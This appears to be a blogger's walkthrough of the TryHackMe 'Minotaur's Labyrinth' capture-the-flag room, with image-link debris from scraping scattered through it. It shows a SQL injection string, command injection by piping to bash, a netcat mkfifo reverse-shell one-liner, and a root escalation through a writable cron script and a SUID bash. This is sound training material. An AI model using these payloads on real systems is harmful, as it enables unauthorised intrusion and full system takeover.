TryHackMe-Minotaur’s Labyrinth

Hello everyone , I hope you are doing well , in this post I will be sharing my walk through for THM Minotaur room , it was rated medium difficulty room but it felt like as it was easy room but anyways the machine had 3 ports open , FTP, HTTP(s) and Mysql. On FTP we can see that anonymous login enabled so we can access directories , but we don’t find much other than a flag and user names. On http we can see a login page but we don’t have any credentials , so looking into javascript file we can see a function which is generating a password so we can use that to get the password and login to access dashboard , we can then find a search field for either Persons or Creatures , thisfield was vulnerable to sqli and we can find admin’s credentials and access a secret page from which we can perform remote code execution and in root’s directory we can see , which was writable by anyone and that scripts is ran automatically every minute and we can make bash a SUID to become root.


21/tcp   open  ftp      syn-ack ttl 63 ProFTPD
| ftp-anon: Anonymous FTP login allowed (FTP code 230)
|_drwxr-xr-x 3 nobody nogroup 4096 Jun 15 14:57 pub
80/tcp open http syn-ack ttl 63 Apache httpd 2.4.48 ((Unix) OpenSSL/1.1.1k PHP/8.0.7 mod_perl/2.0.11 Perl/v5.32.1)
|_http-favicon: Unknown favicon MD5: C4AF3528B196E5954B638C13DDC75F2F
| http-methods:
|_ Supported Methods: GET HEAD POST OPTIONS
|_http-server-header: Apache/2.4.48 (Unix) OpenSSL/1.1.1k PHP/8.0.7 mod_perl/2.0.11 Perl/v5.32.1
| http-title: Login
|_Requested resource was login.html443/tcp open ssl/http syn-ack ttl 63 Apache httpd 2.4.48 ((Unix) OpenSSL/1.1.1k PHP/8.0.7 mod_perl/2.0.11 Perl/v5.32.1)
|_http-favicon: Unknown favicon MD5: BE43D692E85622C2A4B2B588A8F8E2A6
| http-methods:
|_ Supported Methods: GET HEAD POST OPTIONS
3306/tcp open mysql? syn-ack ttl 63
| fingerprint-strings:
|_ Host '' is not allowed to connect to this MariaDB server
| mysql-info:
|_ MySQL Error: Host '' is not allowed to connect to this MariaDB server
1 service unrecognized despite returning data. If you know the service/version, please submit the following fingerprint


Since anonymous login is enabled , we can login to ftp without the need of passwordWe can see a directory named pub and in that folder we'll see another hidden folder and a text file

From .secret we'll get two more text files

The message that those two files give us is


On the webserver we can find a login page

If we check the source , we can find login.js

Looking into the java script file , we can see there are three arrays , a,b and c and the indexes of these 3 arrays are being combined to generate a password , so we need to just copy that part of the function and just print the concatenated value of string also to note that this is a password for Daedalus

a = ["0", "h", "?", "1", "v", "4", "r", "l", "0", "g"]
b= ["m", "w", "7", "j", "1", "e", "8", "l", "r", "a", "2"]
c = ["c", "k", "h", "p", "q", "9", "w", "v", "5", "p", "4"]
print (a[9]+b[10]+b[5]+c[8]+c[8]+c[1]+a[1]+a[5]+c[0]+c[1]+c[8]+b[8])

After submitting those credentials onto the login page we’ll be granted access to the dashboard

If we scroll down a little , we can see that there are two options , either we search for people name from People table or we search for creature name from Creatures table , so let's run burp suite on this page and try some sqli

If we search the name “Daedalus” it will return us this user’s id and password

So let’s try a sqli 'or 1=1 --

And this gave us all the results from Person’s table, we can also check how many number of columns does this table have so we can also enumerate which version of mysql it's using.

If we try to arrange the records by 4th column it’s going to give us an error meaning that there are only 3 columns in the tableWe can crack the users password from crack station website

On logging in with M!n0taur user we can see another tab in navigation bar


On this page we can echo text but if we try to break out of the command to run bash commands we can’t as it’s using this regex (saw from the hint)


This regex doesn’t include | so we can echo id and pipe it's reuslt to bash

We can check if there’s netcat (nc) available on this machine

To get a reverse shell , we need to base64 encode the netcatshell because there will be special characters in the payload so first we’ll convert it to base64

rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 2222 >/tmp/f

And we’ll send it by piping it to base64 deocde and then to bash

Stabilizing the shell

We can check the echo.php file just to understand what was happening in the background

Also we can find database credentials from dbconnect.php

Inuser directory we can get our user flag

Privilege Escalation (root)

We can find a directory named timer in root directory /

echo "dont fo...forge...ttt" >> /reminders/dontforget.txt

We know that everyone can read ,write and execute this bash script , so we can try to add id and save the result in a file ,and if we wait for the bash script to be executed we'll see the result of this command

Now what we can do is , make bash a SUID so when we execute bash it will be executed as root user and we will get shell as rootuser

Pentester | CTF Player